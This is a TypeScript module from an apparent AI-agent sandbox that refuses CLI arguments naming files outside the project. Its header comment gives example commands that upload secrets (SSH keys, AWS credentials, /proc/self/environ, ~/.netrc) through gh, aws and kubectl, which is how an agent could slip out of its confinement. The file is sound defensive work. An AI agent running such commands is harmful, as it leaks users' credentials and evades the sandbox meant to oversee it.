/**
 * Arguments that make a confined CLI read (or write) a file must name a file
 * in the project. `gh gist create ~/.ssh/id_rsa`, `gh issue create
 * --body-file ~/.aws/credentials`, `gh api -F body=@/proc/self/environ`,
 * `aws s3 cp ~/.kube/config s3://…`, `kubectl create secret generic x
 * --from-file=~/.netrc` would each upload a secret the agent then reads back.
 *
 * Rather than know every flag of every CLI that reads a file, any argument
 * that resolves to an existing path counts — the whole word, the value after
 * `=`, after a leading `@`, after `file://`/`fileb://` — and must resolve,
 * symlinks and `..` followed, inside the project. A word that names nothing
 * that exists is left alone (`pr`, `list`, a URL path such as `/repos/x`).
 *
 * This check runs before the CLI starts, so a link swapped afterwards could
 * point elsewhere: that race gains nothing, by construction. The CLI runs in a
 * namespace (namespace.ts) that holds no secret on any path — no home, no
 * procfs, its credential only in its environment — so whatever a swapped link
 * names there is a project file, a system file or downscope's non-secret
 * config. The check makes the refusal clear and early; the namespace is what
 * makes it hold.
 */
import { realpathSync } from "node:fs";
import { resolve } from "node:path";
import { PolicyDenied } from "../../errors.js";
import { inside, lexists as exists } from "../../paths.js";

/**
 * Arguments after `--` that the CLI hands to a remote side, not to a local
 * open: `kubectl exec pod -- cat /etc/hostname`, `gcloud compute ssh vm --
 * ls /`. gh passes what follows `--` to git, which does open local paths.
 */
const REMOTE_AFTER_DASHDASH = new Set(["kubectl", "gcloud"]);

/** The paths a word may name, in the order tried. */
export function pathCandidates(word: string): string[] {
  const out = new Set<string>();
  const add = (s: string) => {
    if (s !== "" && !s.includes("\0") && !s.includes("\n")) out.add(s);
  };
  add(word);
  const eq = word.indexOf("=");
  if (eq !== -1) {
    add(word.slice(eq + 1));
    const last = word.lastIndexOf("=");
    if (last !== eq) add(word.slice(last + 1)); // --from-file=key=path
  }
  for (const w of [...out]) {
    if (w.startsWith("@")) add(w.slice(1)); // gh api -F field=@file, curl-style
    const m = /^fileb?:\/\/(.*)$/.exec(w); // aws --cli-input-json file://x
    if (m) add(m[1]!);
  }
  return [...out];
}

export interface PathArgProblem {
  arg: string;
  names: string;
  resolved: string;
}

/** The first argument naming an existing path outside the project, or undefined. */
export function pathArgOutsideProject(
  binary: string,
  args: readonly string[],
  cwd: string,
  project: string,
): PathArgProblem | undefined {
  const realProject = realpathOr(project) ?? project;
  const end = REMOTE_AFTER_DASHDASH.has(binary) ? args.indexOf("--") : -1;
  const words = end === -1 ? args : args.slice(0, end);
  for (const arg of words) {
    for (const c of pathCandidates(arg)) {
      const abs = resolve(cwd, c);
      if (!exists(abs)) continue;
      const real = realpathOr(abs);
      // A link to nothing (or a loop) is refused too: the CLI could be made to follow it later.
      if (real === undefined || !inside(real, realProject)) return { arg, names: c, resolved: real ?? abs };
    }
  }
  return undefined;
}

export function checkPathArgs(binary: string, args: readonly string[], cwd: string, project: string): void {
  const p = pathArgOutsideProject(binary, args, cwd, project);
  if (p === undefined) return;
  const what = p.names === p.arg ? `\`${p.arg}\`` : `\`${p.arg}\` (${p.names})`;
  throw new PolicyDenied(
    `contained mode: the argument ${what} names ${p.resolved}, outside the project (${project}). The ${binary} that runs outside the sandbox reads and writes files only inside the project: copy what it needs into the project first, or ask the user.`,
  );
}

function realpathOr(p: string): string | undefined {
  try {
    return realpathSync.native(p);
  } catch {
    return undefined;
  }
}
